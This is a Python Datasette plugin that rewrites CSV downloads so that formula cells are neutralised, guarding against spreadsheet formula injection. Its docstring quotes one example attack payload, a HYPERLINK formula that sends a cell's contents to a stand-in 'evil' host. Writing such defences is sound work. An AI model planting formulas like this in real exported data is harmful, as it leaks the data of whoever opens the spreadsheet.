"""Datasette plugin: every .csv datasette sends is spreadsheet-safe (no live formulas).

A scraped title such as `=HYPERLINK("http://evil/?"&A1,"اضغط هنا")` would run in the
spreadsheet of whoever opens the "CSV for Excel" download. Each CSV response is
rewritten record by record as it streams (pipelines/text/spreadsheet.py): cells that
start with = + - @, a tab or a carriage return get a leading single quote; numbers and
dates are unchanged. JSON and HTML are untouched (SECURITY.md).
"""

from __future__ import annotations

from datasette import hookimpl

CSV_TYPES = (b"text/csv", b"text/plain")


def neutralise_csv(app):
    async def app_with_safe_csv(scope, receive, send):
        if scope.get("type") != "http":
            await app(scope, receive, send)
            return
        csv_path = scope.get("path", "").endswith(".csv")
        state: dict = {"rewriter": None}

        async def send_safe(message):
            if message["type"] == "http.response.start":
                kind = b""
                for name, value in message.get("headers", []):
                    if name.lower() == b"content-type":
                        kind = value.split(b";")[0].strip().lower()
                # datasette sends CSV as text/csv (with _dl) or text/plain (a .csv URL)
                is_csv = kind == b"text/csv" or (csv_path and kind in CSV_TYPES)
                if is_csv and message.get("status", 200) == 200:
                    from pipelines.text.spreadsheet import CsvRewriter  # found once arshif_search.py has loaded

                    state["rewriter"] = CsvRewriter()
                    headers = [[n, v] for n, v in message.get("headers", []) if n.lower() != b"content-length"]
                    message = {**message, "headers": headers}
            elif message["type"] == "http.response.body" and state["rewriter"] is not None:
                more = message.get("more_body", False)
                message = {**message, "body": state["rewriter"].feed(message.get("body", b""), final=not more)}
            await send(message)

        await app(scope, receive, send_safe)

    return app_with_safe_csv


@hookimpl(tryfirst=True)
def asgi_wrapper(datasette):
    return neutralise_csv
